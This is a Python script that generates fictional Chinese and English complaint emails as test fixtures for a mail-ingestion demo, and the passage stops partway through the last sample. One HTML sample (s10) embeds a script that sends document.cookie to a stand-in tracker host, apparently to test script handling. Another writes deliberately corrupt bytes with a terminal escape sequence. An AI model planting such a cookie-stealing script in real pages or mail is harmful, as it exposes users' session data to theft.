"""Write the demo's sample complaints (`ingestd/samples/mail/*.eml`), deterministically.

The organisation is fictional: 华东物流零售 / Huadong Logistics & Retail, complaint desk
complaints@ingestd.example. Every address is under a reserved example domain and every phone number is
fictional. Dates, Message-IDs and MIME boundaries are fixed, so running the script again writes the same
bytes; `tests/test_samples.py` checks that the committed files equal what this script writes.

    python -m ingestd.samples.generate            # rewrite ingestd/samples/mail/
    python -m ingestd.samples.generate DIR        # write them somewhere else

Built with the standard library `email` package only. The charset labels of encoded words and bodies are
written by hand (`encoded_words`, `text_part`): `email.header.Header` would label GB2312 as
`eucgb2312_cn` and Big5 as `big5_tw` (Python's codec names), which no mail client sends. Samples that a
well-behaved library cannot produce at all (8-bit headers, a mislabelled charset, a broken multipart, a
file that is not mail) are written as bytes.

See README.md next to this file for what each sample exercises.
"""

from __future__ import annotations

import base64
import struct
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import base64mime, quoprimime
from email.message import Message
from email.policy import compat32
from email.utils import encode_rfc2231, format_datetime
from pathlib import Path

OUT = Path(__file__).parent / "mail"
DESK = "complaints@ingestd.example"
CST = timezone(timedelta(hours=8))  # China Standard Time: what the complainants' mail clients write
FOLD = "\r\n "  # a folded header line, where headers are written by hand
POLICY = compat32.clone(linesep="\r\n")  # mail on the wire: CRLF line ends, headers folded at 78


# ---- small building blocks -----------------------------------------------------------------------

def mid(n: int | str) -> str:
    """The Message-ID of sample n: replies and follow-ups point at these."""
    return f"<sample-{n:02d}@mail.example.com>" if isinstance(n, int) else f"<sample-{n}@mail.example.com>"


def date(month: int, day: int, hour: int, minute: int, tz: timezone = CST) -> str:
    return format_datetime(datetime(2026, month, day, hour, minute, tzinfo=tz))


def encoded_words(text: str, charset: str = "utf-8", *, codec: str | None = None, q: bool = False,
                  sep: str = " ") -> str:
    """RFC 2047 encoded words for a header, each at most 66 characters (so that the first
    one fits on the header line), never splitting a character.

    `codec` is the Python codec used for the bytes when it differs from the label (the mislabelled sample);
    `sep` joins the words (a folding "\\r\\n " where the header is written by hand)."""
    if all(ord(c) < 128 for c in text):
        return text
    encode = quoprimime.header_encode if q else base64mime.header_encode
    words: list[str] = []
    chunk = ""
    for char in text:
        trial = chunk + char
        if chunk and len(encode(trial.encode(codec or charset), charset)) > 66:
            words.append(encode(chunk.encode(codec or charset), charset))
            chunk = char
        else:
            chunk = trial
    words.append(encode(chunk.encode(codec or charset), charset))
    return sep.join(words)


def address(name: str | None, addr: str, charset: str = "utf-8", **kw: object) -> str:
    if not name:
        return addr
    shown = encoded_words(name, charset, **kw)  # type: ignore[arg-type]
    if shown == name and any(c in name for c in '()<>@,;:\\".[]'):
        shown = '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
    return f"{shown} <{addr}>"


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def text_part(body: str, subtype: str = "plain", charset: str = "utf-8", cte: str = "base64", *,
              codec: str | None = None, quote_charset: bool = True) -> Message:
    """A text/* part: the body encoded in `charset` (or `codec`), then in the transfer encoding."""
    data = crlf(body).encode(codec or charset)
    part = Message()
    label = f'"{charset}"' if quote_charset else charset
    part["Content-Type"] = f"text/{subtype}; charset={label}"
    part["Content-Transfer-Encoding"] = cte
    if cte == "base64":
        payload = base64.encodebytes(data).decode("ascii")
    elif cte == "quoted-printable":
        payload = quoprimime.body_encode(data.decode("latin-1").replace("\r\n", "\n"))
    else:  # 7bit / 8bit: the bytes as they are (the generator writes surrogate-escaped bytes back out)
        payload = data.decode("ascii", "surrogateescape").replace("\r\n", "\n")
    part.set_payload(payload)
    return part


def attachment(data: bytes, content_type: str, disposition: str) -> Message:
    part = Message()
    part["Content-Type"] = content_type
    part["Content-Transfer-Encoding"] = "base64"
    part["Content-Disposition"] = disposition
    part.set_payload(base64.encodebytes(data).decode("ascii"))
    return part


def multipart(subtype: str, boundary: str, *parts: Message, params: str = "",
              preamble: str | None = "This is a multi-part message in MIME format.") -> Message:
    msg = Message()
    msg["Content-Type"] = f'multipart/{subtype}; boundary="{boundary}"{params}'
    for part in parts:
        msg.attach(part)
    msg.preamble = preamble
    return msg


def mail(content: Message, *, sender: str | None, subject: str, when: str, message_id: str,
         to: str = DESK, in_reply_to: str | None = None, references: list[str] | None = None,
         extra: list[tuple[str, str]] | None = None) -> Message:
    """A whole message: envelope headers in the order mail clients write them, then `content`'s own
    Content-* headers and body. `sender` and `subject` are already encoded (see `address`, `encoded_words`)."""
    msg = Message()
    if sender is not None:
        msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = when
    msg["Message-ID"] = message_id
    if in_reply_to:
        msg["In-Reply-To"] = in_reply_to
    if references:
        msg["References"] = " ".join(references)
    for key, value in extra or []:
        msg[key] = value
    msg["MIME-Version"] = "1.0"
    for key, value in content.items():
        msg[key] = value
    msg.set_payload(content.get_payload())
    msg.preamble = content.preamble
    return msg


def quoted(text: str) -> str:
    """The history below a reply, as mail clients quote it."""
    return "\n".join(("> " + line) if line else ">" for line in text.rstrip("\n").split("\n")) + "\n"


# ---- attachments ---------------------------------------------------------------------------------

def png() -> bytes:
    """A tiny valid PNG (16x12, RGB): the 'photo of the damage' - a white fridge door with a grey dent."""
    rows = []
    for y in range(12):
        row = bytearray(b"\x00")  # filter: none
        for x in range(16):
            dent = (x - 10) ** 2 + (y - 5) ** 2 <= 6
            row += bytes((120, 120, 128) if dent else (236, 238, 240))
        rows.append(bytes(row))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 12, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"".join(rows), 9)) + chunk(b"IEND", b""))


def pdf() -> bytes:
    """A small valid one-page PDF (correct xref offsets): the electronic receipt."""
    lines = ["Huadong Logistics & Retail - Electronic receipt", "Order HD2026101588   Date 2026-10-15",
             "Refrigerator, double door, 1 x 3,499.00 CNY", "Delivery and installation 0.00 CNY",
             "Total paid 3,499.00 CNY"]
    text = b"BT /F1 12 Tf 60 760 Td 16 TL " + b" ".join(b"(%s) '" % s.encode("latin-1") for s in lines) + b" ET"
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"]
    out, offsets = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


# ---- the complaints ------------------------------------------------------------------------------

BODY_01 = """你好，

我于10月10日在华东物流零售网上商城下单购买了一台空气净化器（订单号 HD2026101001，运单号 SF1234567890），
页面承诺3天内送达，可到今天（10月20日）已经整整十天，包裹仍然没有送到。

物流信息从10月12日起一直停在“上海浦东转运中心 已到达”，之后再没有更新。
这期间我打了五次客服电话，每次都说“正在核实，请耐心等待”，没有任何结果。

我的要求：
1. 三天内把货送到，并退还运费；
2. 如果做不到，请取消订单并全额退款（1,299元）。

姓名：张伟
电话：13800138000
地址：上海市浦东新区张杨路500号12楼1203室

--\x20
张伟
发自我的iPhone
"""

BODY_04 = """Hello,

I was charged twice for the same order. Order HD-2026-10-8812 (a microwave oven, 1,299.00 CNY) was
paid once with my bank card on 23 October, but my card statement shows two identical charges of
1,299.00 CNY, both at 14:06 that afternoon. The order page shows one payment only.

Please refund the duplicate charge to my card and confirm in writing when it has been done.

Thank you,
Sarah Chen
Mobile: 13500002222
"""


def s01() -> Message:
    return mail(text_part(BODY_01, cte="quoted-printable"), sender=address("张伟", "zhang.wei@example.com"),
                subject=encoded_words("投诉：快递延误十天仍未送达（订单号 HD2026101001）"),
                when=date(10, 20, 9, 12), message_id=mid(1))


def s02() -> Message:
    body = """Dear Sir or Madam,

On 6 October I ordered a three-seat sofa from your Xintiandi showroom (order HD-2026-10-0412, tracking
HDL7730041256). Delivery was promised for Tuesday 13 October between 9:00 and 12:00.

I took the morning off work, nobody came, and nobody has called me since. The tracking page has said
"out for delivery" for eight days, and your hotline cannot tell me where the sofa is.

I would like:
- a firm delivery date within this week, and
- a refund of the ¥300 delivery fee for the missed appointment.

Yours sincerely,
Chloé Lefèvre
Apt 1802, 388 Huaihai Middle Road, Huangpu District, Shanghai
Tel. 13916245678
"""
    return mail(text_part(body, charset="iso-8859-1", cte="quoted-printable"),
                sender=address("Chloé Lefèvre", "chloe.lefevre@example.org", "iso-8859-1", q=True),
                subject="Sofa delivery two weeks late - order HD-2026-10-0412",
                when=date(10, 21, 22, 47), message_id=mid(2))


def s03() -> Message:
    body = """您好，

今天（10月22日）下午收到贵公司配送的冰箱（订单号 HD2026101588，运单号 SF1098765432）。
外包装看起来完好，拆箱后发现冰箱左侧门板有一处明显凹陷，大约5厘米，门封条也变形了，门关不严。
配送师傅当时已经离开，我马上拍了照片（见附件），电子收据也一并附上。

我的要求：
1. 尽快上门更换一台全新冰箱，旧机由贵公司拉走；
2. 我为等货请了两天假，请赔偿误工损失。

李娜
电话：021-61234567 / 13600001111
地址：上海市徐汇区漕溪北路200号3室
"""
    content = multipart(
        "mixed", "----=_Part_03_1026.sample",
        text_part(body),
        attachment(png(), 'image/png; name="IMG_20261022_183502.png"',
                   'attachment; filename="IMG_20261022_183502.png"'),
        attachment(pdf(), "application/pdf",
                   "attachment; filename*=" + encode_rfc2231("电子收据-HD2026101588.pdf", "UTF-8")),
    )
    return mail(content, sender=address("李娜", "li.na@example.com"),
                subject=encoded_words("货物破损：冰箱门凹陷（运单号 SF1098765432），附照片和收据"),
                when=date(10, 22, 19, 5), message_id=mid(3))


def s04() -> Message:
    html = ("<div dir=\"ltr\">" + BODY_04.strip().replace("\n\n", "</div><div><br></div><div>")
            .replace("\n", "<br>") + "</div>\n")
    content = multipart("alternative", "000000000000a1b2c3d4e5f60718", text_part(BODY_04, cte="quoted-printable"),
                        text_part(html, "html", cte="quoted-printable"), preamble=None)
    return mail(content, sender=address("Sarah Chen", "sarah.chen@example.com"),
                subject="Charged twice for the same order (HD-2026-10-8812)",
                when=date(10, 24, 10, 31), message_id=mid(4))


def s05() -> Message:
    body = """你好：

10月24日下午我打客服热线查询退款进度（订单号 HD2026100915，退货已于10月16日签收），
接线的客服（工号 0231）态度非常不耐烦，我话还没说完就说“系统里查不到，你自己等着”，
随后直接挂断电话。我再次打进去，又是同一个人接听，再次挂断。

退货签收已经一个多星期，499元退款至今没有到账。

我的要求：
一、核实10月24日下午的通话录音，对该客服进行处理；
二、向我道歉；
三、三个工作日内把499元退回原支付账户。

联系人：刘洋
电话：13600006666
"""
    return mail(text_part(body, charset="gb2312"), sender=address("刘洋", "liu.yang@example.net", "gb2312"),
                subject=encoded_words("服务态度差：客服两次挂断我的电话", "gb2312"),
                when=date(10, 25, 14, 2), message_id=mid(5))


def s06() -> bytes:
    """Declared gb2312, but 珺 and 镕 exist only in GBK: the bytes real Chinese mail clients send."""
    body = """你好：

我叫王珺，10月22日在贵公司南京东路门店购买了一台电饭煲（订单号 HD2026102277，价格459元）。
用到第三天（10月25日）晚上，电饭煲突然无法加热，指示灯一直闪烁，换了插座也一样。

10月26日我把电饭煲拿回门店，朱镕经理说只能寄回厂家检测，要等一个月左右，期间也没有备用机。
刚买三天就出故障，属于产品质量问题，按照“三包”规定应当可以直接退换。

要求：立即更换新机，或者全额退款459元。

王珺
电话：13912345678
地址：上海市黄浦区南京东路100号5楼
"""
    head = (f"From: {address('王珺', 'wang.jun@example.net', 'gb2312', codec='gbk')}\r\n"
            f"To: {DESK}\r\n"
            f"Subject: {encoded_words('产品质量问题：电饭煲用了三天就无法加热（王珺）', 'gb2312', codec='gbk', sep=FOLD)}\r\n"
            f"Date: {date(10, 27, 8, 55)}\r\nMessage-ID: {mid(6)}\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: 8bit\r\n\r\n")
    return head.encode("ascii") + crlf(body).encode("gbk")


def s07() -> bytes:
    """Raw UTF-8 in the headers, no encoded words: what badly configured servers and scripts send."""
    head = ("From: 赵敏 <zhao.min@example.org>\r\n"
            f"To: {DESK}\r\n"
            "Subject: 维修未完成：楼道灯坏了两个月，报修三次没人修\r\n"
            f"Date: {date(10, 28, 21, 16)}\r\nMessage-ID: {mid(7)}\r\nMIME-Version: 1.0\r\n"
            "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n")
    body = """物业你好，

我住在浦东新区锦绣路88弄5号楼。5号楼三楼到六楼的楼道灯从8月底就坏了，到现在已经两个月。
我先后报修了三次（9月2日、9月12日、10月15日，最近一次工单号 WX-20261015-031），
每次都说“已派单”，但一直没有人来修。

上周四晚上，楼上的老人摸黑下楼，在四楼拐角摔了一跤，膝盖擦伤。

请在本周内安排维修，并书面说明为什么三次报修都没有处理。

赵敏
5号楼402室
电话：13700001234
"""
    return head.encode("utf-8") + crlf(body).encode("utf-8")


def s08() -> Message:
    body = """你好，

10月18日我在贵公司网店给女儿孙䶮买了一套儿童书桌（订单号 HD2026101877），收货人填的是她的名字。
从第二天起，我和女儿每天都接到十几个推销电话😡，对方能准确说出她的名字、我们家的地址和买的是什么书桌。
还有人冒充贵公司客服，说订单异常要给我们“退款”，让我们提供银行卡验证码。

这个订单信息我们只在贵公司留过，我怀疑是贵公司或者配送环节泄露了我们的个人信息。

要求：
1. 调查泄露原因，并书面告知处理结果；
2. 保护好我们的订单信息，防止继续扩散；
3. 对此事作出正式道歉。

孙丽
电话：13300003333
地址：上海市闵行区七莘路1888弄20号
"""
    return mail(text_part(body, charset="gb18030"), sender=address("孙丽", "sun.li@example.org", "gb18030"),
                subject=encoded_words("个人信息泄露：网店下单后每天接到骚扰电话", "gb18030"),
                when=date(10, 29, 11, 40), message_id=mid(8))


def s09() -> Message:
    body = """你好，

本人於10月18日在貴公司網店訂購一套玻璃花瓶禮盒（訂單編號 HD2026101863），寄往香港。
10月28日收到包裹時，外箱嚴重變形，裡面三個玻璃花瓶全部破碎，已即時拍照。

致電客服熱線，對方只說「運輸途中損壞不關我們事，你去找快遞公司」，態度惡劣。
貨物由貴公司安排寄出，理應由貴公司負責。

要求：全額退款港幣1,280元（或等值人民幣），並就客服的態度作出道歉。

陳大文
電話：+852 2123 4567
地址：香港九龍旺角彌敦道600號8樓B室
"""
    return mail(text_part(body, charset="big5"), sender=address("陳大文", "chan.taiman@example.net", "big5"),
                subject=encoded_words("投訴：包裹嚴重損壞，客服態度惡劣", "big5"),
                when=date(10, 30, 16, 23), message_id=mid(9))


def s10() -> Message:
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style>p { font-family: Arial, sans-serif; font-size: 11pt; }</style>
<script type="text/javascript">document.location = 'https://tracker.example/c?' + document.cookie;</script>
</head><body>
<p>To whom it may concern,</p>
<p>On 29 October your driver threw my parcel (tracking <b>HDL8812345001</b>, order HD-2026-10-2291) over the
gate of my compound instead of ringing the bell. It landed in a puddle in the rain. The laptop inside
(a 14-inch notebook, 6,499 CNY) no longer starts.</p>
<p>My doorbell camera recorded the driver throwing the parcel; I can send you the video.</p>
<p>I expect:</p>
<ul><li>a <i>full refund</i> of 6,499 CNY, and</li><li>a written apology.</li></ul>
<p>Regards,<br>Michael Brown<br>Villa 12, 1500 Hongqiao Road, Changning District, Shanghai<br>
Mobile: 13764205588</p>
</body></html>
"""
    return mail(text_part(html, "html", cte="quoted-printable"),
                sender=address("Michael Brown", "m.brown@example.net"),
                subject="Parcel thrown over the gate - laptop damaged", when=date(10, 31, 18, 9), message_id=mid(10))


def s11() -> Message:
    inner_body = """你好，

10月31日下午3点左右，我在贵公司虹桥门店办理一件羽绒服的退货（订单号 HD2026102640，吊牌完好，没有超过7天）。
收银台的一名女店员（工牌号 H-117）不但拒绝办理，还当着其他顾客的面大声辱骂我“穷就别买”，
旁边的店长看到了也没有制止。

我要求：
1. 公司调查此事，调取当时的监控；
2. 对该店员作出处理，并由门店向我书面道歉；
3. 按规定办理退货退款。

周杰
手机：13811112222
"""
    inner = mail(text_part(inner_body), sender=address("周杰", "zhou.jie@example.net"),
                 subject=encoded_words("门店员工态度恶劣，当众辱骂顾客"), when=date(11, 1, 20, 14),
                 message_id=mid("11-original"), to="frontdesk@huadong.example")
    forwarded = Message()
    forwarded["Content-Type"] = "message/rfc822"
    forwarded["Content-Disposition"] = "attachment; filename*=" + encode_rfc2231("门店员工态度恶劣.eml", "UTF-8")
    forwarded.set_payload([inner])
    note = """投诉组同事好，

以下顾客来信是发到前台邮箱的，原邮件见附件，请按流程登记处理。

前台 李晓
华东物流零售 虹桥门店
电话：021-62345678 转 8001
"""
    content = multipart("mixed", "----=_Part_11_1102.sample", text_part(note), forwarded)
    return mail(content, sender=address("前台 Front Desk", "frontdesk@huadong.example"),
                subject=encoded_words("Fwd: 门店员工态度恶劣，当众辱骂顾客"), when=date(11, 2, 9, 30),
                message_id=mid(11))


def s12() -> Message:
    body = """补充情况：

今天上午快递员给我打电话，说包裹在浦东转运中心“丢失”了，让我自己联系商家。
从下单到现在已经24天，我不想再等了。请直接全额退款1,299元，并书面说明包裹丢失的原因。

客服工单号：KF-20261021-0457

张伟 13800138000

在 2026年10月20日 09:12，张伟 <zhang.wei@example.com> 写道：
""" + quoted(BODY_01)
    return mail(text_part(body), sender=address("张伟", "zhang.wei@example.com"),
                subject=encoded_words("Re: 投诉：快递延误十天仍未送达（订单号 HD2026101001）"),
                when=date(11, 3, 12, 20), message_id=mid(12), in_reply_to=mid(1), references=[mid(1)])


def s13() -> Message:
    body = """Hello again,

Ten days later there is still no refund. My bank says the second charge was settled, not just
authorised: transaction reference 88120045, 23 October 14:06, 1,299.00 CNY.

Please refund it this week, or tell me who I should contact.

Sarah Chen
Mobile: 13500002222

On Sat, 24 Oct 2026 at 10:31, Sarah Chen <sarah.chen@example.com> wrote:
""" + quoted(BODY_04)
    return mail(text_part(body, cte="quoted-printable"), sender=address("Sarah Chen", "sarah.chen@example.com"),
                subject="Re: Charged twice for the same order (HD-2026-10-8812)", when=date(11, 4, 8, 5),
                message_id=mid(13), references=[mid(4)])


def s14() -> Message:
    body = """你们好，

我9月28日在贵公司购买并由贵公司安排安装了一台柜式空调（订单号 HD2026092833），
从10月20日开始漏水，水顺着墙流到楼下，把楼下邻居家的天花板泡坏了一大片。

我10月21日、10月27日、11月2日三次打电话投诉，每次都说“会安排师傅上门”，到现在一个人都没来过。
楼下邻居天天来找我，修天花板要3,800元。

如果三天内再不解决，我就把照片和视频发到抖音和微博，并联系电视台和报社记者，向媒体曝光你们！

要求：
1. 三天内上门处理漏水，更换空调；
2. 赔偿楼下邻居的天花板维修费3,800元；
3. 给出书面解释。

黄磊
电话：13900009999
地址：上海市杨浦区控江路1500弄8号601室
"""
    return mail(text_part(body), sender=address("黄磊", "huang.lei@example.com"),
                subject=encoded_words("再不处理我就向媒体曝光！空调漏水泡坏邻居家天花板"),
                when=date(11, 5, 23, 41), message_id=mid(14))


def s15() -> Message:
    body = """Dear Customer Service,

On Sunday 1 November at about 4 pm I was shopping in your Xujiahui store (second floor, kitchenware).
A metal display shelf collapsed as I walked past; a glass jar fell and cut my left forearm. I was taken
to hospital and needed six stitches. Your staff helped me at the time, but nobody has contacted me since.

I have kept the hospital receipts (1,860 CNY so far) and photos of the shelf, and can send them.

I expect you to:
1. pay my hospital bills and the follow-up visits,
2. pay compensation for the injury and the working days I lost, and
3. tell me what you are doing so that this does not happen to someone else.

Daniel Park
Mobile: 13700007777
Room 903, 77 Caoxi North Road, Xuhui District, Shanghai
"""
    return mail(text_part(body, cte="7bit", quote_charset=False), sender=address("Daniel Park", "daniel.park@example.com"),
                subject="Injured by a collapsing shelf in your Xujiahui store", when=date(11, 6, 10, 15),
                message_id=mid(15))


def s16() -> Message:
    body = """华东物流零售有限公司：

10月30日，贵公司配送员为我家配送并安装衣柜（订单号 HD2026103012）时违规操作，
搬运中将我家客厅的一套红木沙发和茶几严重刮花、磕裂，当场有照片和视频为证。
事后我多次与门店协商，贵公司只同意赔偿500元，我无法接受。

我已委托律师处理此事。现正式致函要求：
一、赔偿人民币5万元（红木家具修复费用及贬值损失）；
二、就配送员的违规行为作出书面道歉。

请于收到本函之日起7日内书面答复，否则我方将向人民法院提起诉讼。

吴敏
电话：010-87654321
地址：北京市朝阳区建国路88号2号楼1501
"""
    return mail(text_part(body), sender=address("吴敏", "wu.min@example.com"),
                subject=encoded_words("律师函：要求赔偿5万元，否则起诉"), when=date(11, 9, 15, 0), message_id=mid(16))


def s17() -> Message:
    body = """Thank you for your message. I am travelling until 16 November with limited access to email
and will reply when I am back.

Merci pour votre message. Je suis en déplacement jusqu'au 16 novembre.
"""
    return mail(text_part(body, charset="iso-8859-1", cte="quoted-printable"),
                sender=address("Chloé Lefèvre", "chloe.lefevre@example.org", "iso-8859-1", q=True),
                subject="Automatic reply: Re: Sofa delivery two weeks late - order HD-2026-10-0412",
                when=date(11, 10, 7, 0), message_id=mid(17),
                extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All")])


def s18() -> Message:
    text = """物流行业周刊 第45期（2026年11月11日）

本期要点
· 双十一快递延误高峰：各地转运中心如何应对爆仓
· 客户投诉处理的五个技巧：从“道歉”到“赔偿”
· 冷链运输新规12月起实施

阅读全文：https://logistics-weekly.example/issues/45

您收到这封邮件，是因为您订阅了物流行业周刊。退订：https://logistics-weekly.example/unsubscribe
"""
    html = ("<html><body><h1>物流行业周刊 第45期</h1><ul><li>双十一快递延误高峰：各地转运中心如何应对爆仓</li>"
            "<li>客户投诉处理的五个技巧：从“道歉”到“赔偿”</li><li>冷链运输新规12月起实施</li></ul>"
            '<p><a href="https://logistics-weekly.example/unsubscribe">退订</a></p>'
            '<img src="https://logistics-weekly.example/open.gif?u=8812" width="1" height="1"></body></html>\n')
    content = multipart("alternative", "=_newsletter_45_alt", text_part(text), text_part(html, "html"), preamble=None)
    return mail(content, sender=address("物流行业周刊", "newsletter@logistics-weekly.example"),
                subject=encoded_words("物流行业周刊 第45期：双十一快递延误高峰如何应对"), when=date(11, 11, 6, 0),
                message_id="<issue-45.20261111@logistics-weekly.example>",
                extra=[("Precedence", "bulk"),
                       ("List-Id", encoded_words("物流行业周刊") + " <weekly.logistics-weekly.example>"),
                       ("List-Unsubscribe", "<mailto:unsubscribe@logistics-weekly.example?subject=unsubscribe>, "
                                            "<https://logistics-weekly.example/unsubscribe>"),
                       ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click")])


def s19() -> Message:
    """A delivery-status report: an acknowledgement the desk sent to 黄磊 (sample 14) bounced."""
    human = """This is the mail system at host mx.example.

I'm sorry to have to inform you that your message could not be delivered to one or more
recipients. It's attached below.

<huang.lei@example.com>: host mx.example.com said: 552 5.2.2 Mailbox full
"""
    status = Message()
    status["Content-Type"] = "message/delivery-status"
    per_message, per_recipient = Message(), Message()
    per_message["Reporting-MTA"] = "dns; mx.example"
    per_message["Arrival-Date"] = date(11, 12, 3, 11)
    per_recipient["Final-Recipient"] = "rfc822; huang.lei@example.com"
    per_recipient["Action"] = "failed"
    per_recipient["Status"] = "5.2.2"
    per_recipient["Remote-MTA"] = "dns; mx.example.com"
    per_recipient["Diagnostic-Code"] = "smtp; 552 5.2.2 Mailbox full"
    status.set_payload([per_message, per_recipient])
    returned = Message()
    returned["Content-Type"] = "text/rfc822-headers"
    returned.set_payload(f"From: {address('华东物流零售投诉受理', DESK)}\n"
                         "To: huang.lei@example.com\n"
                         f"Subject: {encoded_words('您的投诉已受理 Your complaint has been received', sep=chr(10) + ' ')}\n"
                         f"Date: {date(11, 12, 3, 10)}\n"
                         "Message-ID: <ack-sample-14@ingestd.example>\n"
                         "Auto-Submitted: auto-replied\n")
    content = multipart("report", "4C1A2B3D.1762888320/mx.example", text_part(human, charset="us-ascii", cte="7bit"),
                        status, returned, params="; report-type=delivery-status",
                        preamble="This is a MIME-encapsulated message.")
    return mail(content, sender=address("Mail Delivery System", "MAILER-DAEMON@mx.example"),
                subject="Undelivered Mail Returned to Sender", when=date(11, 12, 3, 12),
                message_id="<20261112031200.4C1A2B3D@mx.example>", extra=[("Auto-Submitted", "auto-replied")])


def s20() -> Message:
    body = """匿名投诉。

贵公司嘉定区配送仓库（靠近2号门的B区），夜班员工经常在货架旁边和装卸区吸烟，
烟头直接扔在纸箱堆旁边。仓库里全是纸箱和泡沫，一旦起火后果不堪设想。

我向仓库主管反映过两次，没有任何改变，所以只能匿名投诉。请公司尽快检查整改，消除火灾隐患。
"""
    return mail(text_part(body), sender="a7f3k@example.net",
                subject=encoded_words("匿名投诉：嘉定仓库员工在货架旁吸烟"), when=date(11, 13, 2, 33), message_id=mid(20))


def s21() -> Message:
    body = """物业管理处：

静安区康定路99弄小区3号楼的电梯，最近一周（11月7日到11月13日）停运了三次，
每次都是早上上班时间，物业没有任何通知，也没有贴维修告示。
楼里住了很多老人，电梯一停只能爬十几层楼，非常困难。

11月10日我打电话报修，工单号 WX-20261110-112，到现在没有回音。

请尽快彻底维修电梯，并在每次停运时提前通知住户。

3号楼1504室 王先生
电话：13512345678
"""
    return mail(text_part(body), sender=None, subject=encoded_words("投诉：小区3号楼电梯一周停运三次"),
                when=date(11, 14, 19, 48), message_id=mid(21))


def s22() -> bytes:
    """A multipart whose closing boundary never comes: the second part is cut off mid-stream and garbage."""
    return (b"From: Wang Fang <wang.fang@example.com>\r\n"
            b"To: " + DESK.encode() + b"\r\n"
            b"Subject: Complaint about late refund - order HD-2026-10-7712\r\n"
            b"Date: " + date(11, 16, 13, 7).encode() + b"\r\n"
            b"Message-ID: " + mid(22).encode() + b"\r\n"
            b"MIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="XYZ-never-closed"\r\n\r\n'
            b"--XYZ-never-closed\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n"
            b"I returned the vacuum cleaner (order HD-2026-10-7712) on 3 November and your warehouse\r\n"
            b"signed for it on 5 November, but the refund of 899 CNY has still not arrived.\r\n"
            b"Please refund it now.\r\n\r\nWang Fang\r\n13651234567\r\n"
            b"--XYZ-never-closed\r\n"
            b'Content-Type: application/octet-stream; name="scan.jpg"\r\n'
            b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"scan\r\n\r\n"
            b"/9j/4AAQSkZJRgABAQ@@@not base64@@@\r\n"
            b"\xff\xd8\xff\xe0\x1b[0m\xc3\x28\xa0\xa1 \x00\x00 junk --XYZ-never-clo")


def s23() -> Message:
    body = """Hi,

The electric kettle I bought on 9 November (order HD-2026-11-0021, 259 CNY) stopped working after a week:
the light comes on but it does not heat. I have not dropped it and I use it only for water.

Please send a replacement, or refund me and collect the faulty one.

Thanks,
Olivia Martin

--\x20
Olivia Martin | Product Designer
Example Studio, 1000 West Nanjing Road, Jing'an District, Shanghai
T: 021-63219876 | M: 18612345678
Sent from my iPhone
"""
    return mail(text_part(body, cte="7bit", quote_charset=False),
                sender=address("Olivia Martin", "olivia.martin@example.com"),
                subject="Kettle stopped working after a week", when=date(11, 17, 17, 26), message_id=mid(23))


def s24() -> bytes:
    """Not an email: a spreadsheet export someone saved into the intake folder."""
    rows = ["order_id,customer,phone,amount,status", "HD2026101001,张伟,13800138000,1299.00,shipped",
            "HD2026101588,李娜,13600001111,3499.00,delivered", "HD2026102277,王珺,13912345678,459.00,returned",
            "HD2026103012,吴敏,01087654321,8800.00,delivered"]
    return ("\ufeff" + "\r\n".join(rows) + "\r\n").encode("utf-8")


def s25() -> Message:
    body = """Dear team,

Invoice INV-2026-10-5531 for our office move (order HD-2026-10-5531) says 2,450.00 CNY, but the price
agreed in your quotation of 20 October was 1,950.00 CNY — I have been overcharged by 500.00 CNY.

Please issue a corrected invoice and refund the difference to the company account.

Kind regards,
James O'Neil
Office Manager, Example Trading Co.
Tel. 021-68881234
"""
    return mail(text_part(body, cte="quoted-printable"), sender=address("James O'Neil", "james.oneil@example.com"),
                subject=encoded_words("Wrong invoice amount — overcharged by 500 CNY", q=True),
                when=date(11, 19, 9, 45), message_id=mid(25))


def s26() -> Message:
    body = """客服你好：

我11月18日在贵公司App下单购买一台洗衣机（订单号 HD2026111803，金额2,699元），用银行卡支付。
付款时页面卡住，提示“支付失败”，我就重新支付了一次。结果银行卡被扣了两次款，共5,398元，
可我的订单列表里只有一笔订单。

已经过去三天，重复扣费的2,699元还没有退回。请尽快核实，把多扣的款项退回原支付账户。

李喆
手机：15821234567
地址：上海市长宁区天山路600弄3号1102室
"""
    return mail(text_part(body, charset="gbk"), sender=address("李喆", "li.zhe@example.com", "gbk"),
                subject=encoded_words("重复扣费：同一笔订单被扣了两次款", "gbk"), when=date(11, 21, 20, 30),
                message_id=mid(26))


def s27() -> Message:
    body = """华东物流零售 客服部：

我公司于11月19日委托贵公司冷链运输一批冷冻海鲜（运单号 HDC2026111902，共40箱，货值52,000元），
从宁波发往上海市浦东新区，合同约定11月20日上午送达，全程-18℃冷藏。

